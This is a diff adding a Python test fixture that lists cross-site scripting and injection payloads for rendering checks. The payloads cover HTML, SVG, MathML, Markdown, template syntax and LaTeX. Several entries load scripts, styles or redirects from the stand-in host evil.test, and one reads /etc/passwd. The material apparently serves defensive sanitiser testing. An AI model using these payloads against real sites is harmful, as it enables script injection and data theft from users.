@@ -1,0 +1,83 @@
+# ruff: noqa: E501 - every text stays on one line
+"""Texts that try to run script (`xss()`) or to reach another machine (evil.test), for every page to show."""
+
+from __future__ import annotations
+
+PAYLOADS = [
+    # plain HTML
+    "<script>xss()</script>",
+    "<ScRiPt src=//evil.test/a.js></sCrIpT>",
+    "<scr<script>ipt>xss()</scr</script>ipt>",
+    "<img src=x onerror=xss()>",
+    "<img src=x onerror\n=\nxss() //",
+    '<img src="http://evil.test/pixel.png">',
+    "<img srcset='http://evil.test/1 1x' src=x>",
+    "<body onload=xss()><html onfocus=xss()>",
+    "<iframe src='javascript:xss()'></iframe>",
+    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
+    "<object data='data:text/html,<script>xss()</script>'></object><embed src='javascript:xss()'>",
+    "<a href='javascript:xss()' autofocus onfocus=xss() tabindex=1>x</a>",
+    "<input autofocus onfocus=xss()><select autofocus onfocus=xss()><textarea autofocus onfocus=xss()>",
+    "<details open ontoggle=xss()><summary>x</summary></details>",
+    "<video autoplay onloadstart=xss() src=x></video><audio src onerror=xss()><source onerror=xss()>",
+    "<marquee onstart=xss() loop=1>x</marquee><bgsound src='javascript:xss()'>",
+    "<form action='javascript:xss()'><button formaction='javascript:xss()' autofocus>x</button></form>",
+    "<div popover id=p onbeforetoggle=xss()>x</div><button popovertarget=p>y</button>",
+    "<div style='animation: x 1s' onanimationstart=xss()>x</div>",
+    "<style>@import 'http://evil.test/x.css'; * { background: url(http://evil.test/y) }</style>",
+    "<link rel=stylesheet href=http://evil.test/z.css><link rel=prefetch href=http://evil.test/p>",
+    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
+    "<base href='http://evil.test/'><script src=a.js></script>",
+    "<!--><img src=x onerror=xss()>--><![CDATA[<img src=x onerror=xss()>]]>",
+    # breaking out of where a text may stand
+    '"><img src=x onerror=xss()>',
+    "'><svg/onload=xss()>",
+    '" autofocus onfocus=xss() x="',
+    "' onmouseover='xss()",
+    "</title></style></textarea></template></noscript></select></div><script>xss()</script>",
+    "';xss();//\";xss();//`;xss();//--></script><script>xss()</script>",
+    "\\x3cscript\\x3exss()\\x3c/script\\x3e \\u003cimg src=x onerror=xss()\\u003e",
+    '</script><script>xss()</script>{"a": "</script><img src=x onerror=xss()>"}',
+    # SVG and MathML
+    "<svg onload=xss()><animate onbegin=xss() attributeName=x dur=1s></svg>",
+    "<svg><script>xss()</script><script href='data:,xss()'></script></svg>",
+    "<svg><a xlink:href='javascript:xss()'><text y=20>x</text></a><use href='data:image/svg+xml,x#x'/></svg>",
+    "<svg><set attributeName=href to='javascript:xss()'/><foreignObject><body onload=xss()></foreignObject></svg>",
+    "<svg><image href='http://evil.test/i.png'/></svg>",
+    "<math><maction actiontype=statusline xlink:href='javascript:xss()'>x</maction></math>",
+    "<math href='javascript:xss()'><mtext><script>xss()</script></mtext></math>",
+    # what parses differently the second time
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
+    "<svg></p><style><a id='</style><img src=1 onerror=xss()>'>",
+    "<noscript><p title='</noscript><img src=x onerror=xss()>'></noscript>",
+    "<template><img src=x onerror=xss()></template><xmp><img title='</xmp><img src=x onerror=xss()>'></xmp>",
+    # entities and odd signs
+    "&lt;script&gt;xss()&lt;/script&gt; &#60;img src=x onerror=xss()&#62; &amp;lt;img src=x onerror=xss()&amp;gt;",
+    "\x00<scr\x00ipt>xss()</script>\u2028xss()//\u202e",
+    "＜script＞xss()＜/script＞ ‹img src=x onerror=xss()› \ufeff<\u200bscript>xss()</script>",
+    "<\u0130mg src=x onerror=xss()><ſcript>xss()</ſcript><img\u3000src=x\u000conerror=xss()>",
+    # Markdown
+    "[a](javascript:xss()) [b](JaVaScRiPt&colon;xss()) [c](java&#x0A;script:xss())",
+    "[d](data:text/html,<script>xss()</script>) [e](vbscript:xss()) [f](\x01javascript:xss())",
+    '[g][1] ![h][1]\n\n[1]: javascript:xss() "x"',
+    '![x](http://evil.test/a.png) ![y](javascript:xss()) !["onerror="xss()](x)',
+    "<http://evil.test/> <javascript:xss()> <javascript:xss()@x.y> www.evil.test",
+    '[a](http://x "onmouseover=xss() x=") [b](<http://x"onclick=xss()>) [c](http://x\'onclick=xss\\(\\))',
+    '[a](http://[x]%22onmouseover=%22xss()) [![i](x" onerror="xss())](http://x)',
+    '```"><img src=x onerror=xss()>\n</code></pre><img src=x onerror=xss()>\n```',
+    '| <img src=x onerror=xss()> |\n|:-" onmouseover=xss()|\n| `</code><svg onload=xss()>` |\n\n> <svg/onload=xss()>',
+    "# <svg onload=xss()> {#x onclick=xss()}\n\n1. <img src=x onerror=xss()>\n\n[^1]: <script>xss()</script>",
+    # templates
+    "${xss()} ${{xss}} #{xss()} <%= xss() %> <% xss() %> [[xss()]] {%= xss() %}",
+    "{{xss()}} {{{xss()}}} {{constructor.constructor('xss()')()}} {{#with xss}}{{this}}{{/with}} {{value}}",
+    "`${xss()}` ```\n${xss()}\n``` \\`${xss()}\\` ${`${xss()}`} $${xss()}$$",
+    "${element.ownerDocument.defaultView.xss()} ${props.value} {{@root.constructor}} {{lookup this 'constructor'}}",
+    "{{#each}}${xss()}{{/each}} {{> x}} {{!-- --}}${xss()}{{!",
+    # LaTeX
+    "$\\text{<img src=x onerror=xss()>}$ $\\href{javascript:xss()}{x}$ $\\url{javascript:xss()}$",
+    '$$\\unicode{<script>xss()</script>}$$ \\(\\style{x:expression(xss())}{y}\\) \\[\\class{a" onclick="xss()}{b}\\]',
+    '$\\htmlData{x="onclick=xss()"}{y}$ $\\includegraphics{http://evil.test/i.png}$ $\\cssId{x" onclick=xss()}{y}$',
+    "$\\def\\x{<script>xss()</script>}\\x$ $\\input{/etc/passwd}$ $</math><img src=x onerror=xss()>$",
+    "$$\n\\mathchoice{<svg onload=xss()>}{\\html{<img src=x onerror=xss()>}}{\\require{html}}{x}\n$$",
+]
